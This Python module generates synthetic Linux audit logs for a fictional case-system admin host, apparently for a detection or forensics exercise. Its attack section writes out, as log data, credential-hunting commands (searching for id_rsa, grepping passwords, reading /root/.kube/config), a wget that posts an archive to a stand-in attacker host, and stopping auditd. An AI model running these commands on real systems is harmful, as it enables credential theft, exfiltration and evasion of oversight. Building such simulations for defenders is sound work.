"""Linux audit records of the administration host of the case system, one object a record."""

from __future__ import annotations

import random
from datetime import datetime, timedelta
from typing import Any

from tools.sample.telemetry.clock import Happening, at, moments, stamp

__all__ = ["happenings"]

_HOSTS = ("zaken-beheer", "zaken-batch-1")
_STOPPED, _BACK = at(28, 9, 20, 31), at(29, 15, 20, 40)
"""Between these moments nothing is logged: thirty hours."""
_COMMANDS = (
    ("/usr/bin/systemctl", ("systemctl", "status", "zaken-batch")),
    ("/usr/bin/kubectl", ("kubectl", "get", "pods", "-n", "zaaksysteem")),
    ("/usr/bin/df", ("df", "-h")),
    ("/usr/bin/journalctl", ("journalctl", "-u", "zaken-batch", "--since", "-1h")),
    ("/usr/bin/rsync", ("rsync", "-a", "/srv/zaken/in/", "/srv/zaken/klaar/")),
    ("/usr/bin/psql", ("psql", "-c", "select count(*) from zaak")),
)


def _record(moment: datetime, host: str, kind: str, serial: int, **fields: Any) -> dict[str, Any]:
    return {
        "@timestamp": stamp(moment),
        "host": host,
        "type": kind,
        "serial": serial,
        **fields,
    }


def _execution(
    moment: datetime, serial: int, host: str, exe: str, words: tuple[str, ...], uid: int, auid: int
) -> list[dict[str, Any]]:
    call = _record(
        moment,
        host,
        "SYSCALL",
        serial,
        arch="c000003e",
        syscall="execve",
        success="yes",
        exit="0",
        pid=str(2000 + serial % 30000),
        ppid="1843",
        auid=str(auid),
        uid=str(uid),
        euid=str(uid),
        tty="pts0",
        comm=words[0],
        exe=exe,
        key="exec",
    )
    words_record = _record(
        moment,
        host,
        "EXECVE",
        serial,
        argc=str(len(words)),
        **{f"a{place}": word for place, word in enumerate(words)},
    )
    return [call, words_record]


def happenings() -> list[Happening]:
    """Every audit record of the week."""
    found: list[Happening] = []
    serial = 1000
    for moment, dice in moments("linux exec", 1500, night=0.6):
        exe, words = dice.choice(_COMMANDS)
        serial += 1
        for record in _execution(moment, serial, dice.choice(_HOSTS), exe, words, 1001, 1001):
            found.append(Happening(moment, record))
    for moment, dice in moments("linux session", 1400, night=0.6):
        serial += 1
        kind = dice.choice(("USER_ACCT", "USER_START", "USER_END", "CRED_ACQ", "CRED_DISP"))
        record = _record(
            moment,
            dice.choice(_HOSTS),
            kind,
            serial,
            pid=str(dice.randrange(900, 30000)),
            uid="0",
            auid="1001",
            acct="beheer",
            exe="/usr/sbin/cron",
            terminal="cron",
            res="success",
        )
        found.append(Happening(moment, record))
    quiet = [event for event in found if not _STOPPED <= event.at < _BACK]
    return [*quiet, *_attack()]


def _attack() -> list[Happening]:
    dice = random.Random("havenstad linux attack")
    serial = 90000
    host = "zaken-beheer"
    login = at(28, 9, 5, 12)
    found = [
        Happening(
            login,
            _record(
                login,
                host,
                "USER_LOGIN",
                serial,
                pid="24811",
                uid="0",
                auid="1007",
                acct="adm-0007",
                exe="/usr/sbin/sshd",
                hostname="10.50.8.21",
                addr="10.50.8.21",
                terminal="ssh",
                res="success",
            ),
            "lateral",
            "the stolen SSH key opens the administration host of the case system",
            "USER_LOGIN adm-0007 from 10.50.8.21",
        )
    ]
    steps: tuple[tuple[datetime, str, tuple[str, ...], str, str, str], ...] = (
        (
            at(28, 9, 6, 40),
            "/usr/bin/find",
            ("find", "/", "-name", "id_rsa"),
            "credentials",
            "private keys are searched for",
            "EXECVE: find / -name id_rsa",
        ),
        (
            at(28, 9, 8, 3),
            "/usr/bin/grep",
            ("grep", "-r", "password", "/etc/zaken"),
            "credentials",
            "passwords are searched for in configuration",
            "EXECVE: grep password",
        ),
        (
            at(28, 9, 11, 22),
            "/usr/bin/cat",
            ("cat", "/root/.kube/config"),
            "credentials",
            "the cluster's credentials are read",
            "EXECVE: cat .kube/config",
        ),
        (
            at(28, 9, 15, 9),
            "/usr/bin/wget",
            ("wget", "--post-file=/tmp/.k.tgz", "https://cdn.facturen.example/u"),
            "credentials",
            "they are sent to the attacker",
            "EXECVE: wget --post-file",
        ),
        (
            at(28, 9, 20, 30),
            "/usr/bin/systemctl",
            ("systemctl", "stop", "auditd"),
            "evasion",
            "auditd is stopped: nothing is logged for thirty hours",
            "EXECVE: systemctl stop auditd",
        ),
    )
    for moment, exe, words, step, what, shows in steps:
        serial += dice.randrange(1, 9)
        call, argument = _execution(moment, serial, host, exe, words, 0, 1007)
        found.append(Happening(moment, call))
        found.append(Happening(moment + timedelta(milliseconds=1), argument, step, what, shows))
    stop = _STOPPED - timedelta(milliseconds=500)
    found.append(
        Happening(
            stop,
            _record(
                stop,
                host,
                "SERVICE_STOP",
                serial + 1,
                pid="1",
                uid="0",
                auid="4294967295",
                unit="auditd",
                comm="systemd",
                exe="/usr/lib/systemd/systemd",
                res="success",
            ),
            "evasion",
            "the service says that it stops",
            "SERVICE_STOP auditd",
        )
    )
    found.append(
        Happening(
            _BACK,
            _record(
                _BACK,
                host,
                "DAEMON_START",
                100,
                op="start",
                ver="3.1.2",
                pid="31002",
                auid="1001",
                res="success",
            ),
        )
    )
    return found
